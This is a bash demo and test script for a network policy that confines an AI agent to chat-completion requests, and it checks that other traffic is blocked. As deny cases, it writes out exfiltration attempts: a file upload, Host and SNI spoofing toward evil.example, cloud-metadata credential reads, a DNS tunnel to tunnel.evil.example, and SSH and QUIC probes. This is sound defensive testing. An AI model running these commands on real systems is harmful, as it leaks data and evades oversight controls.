#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# make demo: an AI agent under the policy of examples/llm-agent, on a little internet of real
# servers, with real clients. Prints what was tried, what happened, and which rule and reason.
# Fails when anything is not as it should be.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/e2e.sh"
if [ "${EXEAT_WORLD-}" != inside ]; then
	if [ "$(id -u)" -ne 0 ]; then
		echo "make demo needs root: sudo make demo" >&2
		exit 1
	fi
	npm_packages 2>/dev/null
fi
world_enter "$@"
world_up

bold='' red='' green='' dim='' off=''
if [ -t 1 ]; then
	bold=$'\e[1m' red=$'\e[31m' green=$'\e[32m' dim=$'\e[2m' off=$'\e[0m'
fi
wrong=0 rows=0

# What was denied, without what the workload's own kernel says to its link when it starts.
denials() {
	audit '"verdict":"deny"' | grep -v '"dst":"ff02:'
}

# field NAME: of the first denial in the audit log, else of the last record that allows
field() {
	local line
	line=$(denials | head -n 1)
	[ -n "$line" ] || line=$(audit '"verdict":"allow"' | tail -n 1)
	sed -n "s/.*\"$1\":\"\\([^\"]*\\)\".*/\\1/p" <<<"$line"
}

# row allow|deny EXPECTED-OUTPUT WHAT COMMAND…
row() {
	local want=$1 expect=$2 what=$3 out status got colour why mark=' '
	shift 3
	out=$(agent "$@" 2>&1)
	status=$?
	if denials >/dev/null || [ $status -ne 0 ]; then
		got=deny colour=$red
	else
		got=allow colour=$green
	fi
	rows=$((rows + 1))
	if [ $got != "$want" ] || ! grep -qE -- "$expect" <<<"$out"; then
		mark='!'
		wrong=$((wrong + 1))
	fi
	why=$([ $got = allow ] || field reason)
	[ "$(field rule)" = '' ] || why+="${why:+  }${dim}$(field policy) $(field rule)${off}"
	printf '%s %-52s %s%-8s%s %s\n' "$mark" "$what" "$colour" "$([ $got = allow ] && echo allowed || echo DENIED)" "$off" "$why"
	[ "$mark" = ' ' ] || head -n 15 <<<"$out" | sed 's/^/    | /'
}

python_chat=(python3 "$CLIENTS/urllib_chat.py" "$CHAT")
http='%{stderr}HTTP %{http_code}\n'

printf '\n%sexeat run -p examples/llm-agent/policy.yaml -- …%s\n' "$bold" "$off"
printf '%s%s%s\n\n' "$dim" "one agent may POST /v1/chat/completions to api.openai.com and to llm-gateway:8080; nothing else" "$off"
printf '  %s%-52s %-8s %s%s\n' "$bold" "what the agent tried" "verdict" "reason, rule" "$off"

printf '\n  %sits work%s\n' "$dim" "$off"
row allow 'granted' "curl: POST a chat completion" curl -sS "$CHAT" -d "$ASK"
row allow 'granted' "wget: the same" wget -qO- --post-data="$ASK" "$CHAT"
row allow 'granted' "python3 urllib: the same" "${python_chat[@]}"
row allow 'token [89][0-9][0-9]|token [1-9][0-9]{3}' "python3 urllib: streamed, as the tokens are sent" "${python_chat[@]}" stream
row allow 'granted' "node fetch: the same" node "$CLIENTS/fetch.mjs" "$CHAT"
if [ -n "$EXEAT_NPM" ]; then
	row allow 'granted' "npm openai" node "$CLIENTS/openai.mjs" plain
	row allow 'token [89][0-9][0-9]|token [1-9][0-9]{3}' "npm openai, stream: true" node "$CLIENTS/openai.mjs" stream
fi
row allow 'granted' "curl: POST to llm-gateway:8080, plain HTTP" \
	curl -sS "http://$GATEWAY4:8080/v1/chat/completions" -d "$ASK"

printf '\n  %sthe right server, the wrong request%s\n' "$dim" "$off"
row deny 'HTTP 403' "GET /v1/models" curl -sSw "$http" https://api.openai.com/v1/models
row deny 'HTTP 403' "POST /v1/files: upload the workspace" curl -sSw "$http" https://api.openai.com/v1/files -F f=@/etc/hostname
row deny 'HTTP 40[03]' "POST /v1/chat/completions/../files" curl -sSw "$http" --path-as-is "$CHAT/../files" -d x
row deny 'HTTP 40[03]' "POST //v1/chat/completions" curl -sSw "$http" --path-as-is https://api.openai.com//v1/chat/completions -d x
row deny 'HTTP 4(21|03)' "Host: evil.example on that connection" curl -sSw "$http" -H 'Host: evil.example' "$CHAT" -d x

printf '\n  %sother servers%s\n' "$dim" "$off"
row deny 'resolve' "https://evil.example/" curl -sSm5 https://evil.example/
row deny '.' "https://$EVIL4/ , no name at all" curl -sSkm5 "https://$EVIL4/"
row deny '.' "https://[$EVIL6]/" curl -sSkm5 "https://[$EVIL6]/"
row deny '.' "SNI api.openai.com to the server of evil.example" curl -sSm5 --connect-to "::$EVIL4" "$CHAT" -d x
row deny '.' "http://169.254.169.254/ , cloud credentials" curl -sSm5 http://169.254.169.254/
row deny '.' "http://[::ffff:169.254.169.254]/" curl -sSm5 'http://[::ffff:169.254.169.254]/'

printf '\n  %sways around%s\n' "$dim" "$off"
row deny 'REFUSED' "dig evil.example" sh -c 'dig +time=2 +tries=1 evil.example; exit 1'
row deny '.' "dig @8.8.8.8 api.openai.com" dig +time=2 +tries=1 @8.8.8.8 api.openai.com
row deny 'REFUSED' "secret.tunnel.evil.example over DNS, TCP" sh -c 'dig +tcp +time=2 +tries=1 c2VjcmV0.tunnel.evil.example; exit 1'
row deny '.' "ping" ping -c1 -W2 "$EVIL4"
row deny '.' "UDP/443, QUIC" python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((sys.argv[1], 443)); s.send(b"x"); s.recv(1)' "$OPENAI4"
row deny '.' "SSH to the allowed host" nc -vzw2 "$OPENAI4" 22
row deny '.' "a service of the host itself" curl -sSm3 "http://$OUTER4:9009/"

arrived=$(grep -hE '203\.0\.113\.66|2001:db8:113::66|169\.254|/v1/(files|models)|evil' "$WORLD"/log/*.seen)
printf '\n'
if [ -n "$arrived" ]; then
	wrong=$((wrong + 1))
	printf '%sARRIVED at a server that should have seen nothing:%s\n%s\n' "$red" "$off" "$arrived"
else
	printf 'The servers saw %s requests: the allowed ones, and nothing else.\n' \
		"$(grep -c . "$WORLD/log/nginx.seen")"
fi
if [ $wrong -gt 0 ]; then
	printf '%s%d of %d are not as they should be (marked !).%s\n' "$red" $wrong $rows "$off"
	exit 1
fi
printf '%sAll %d are as they should be.%s\n\n' "$green" $rows "$off"
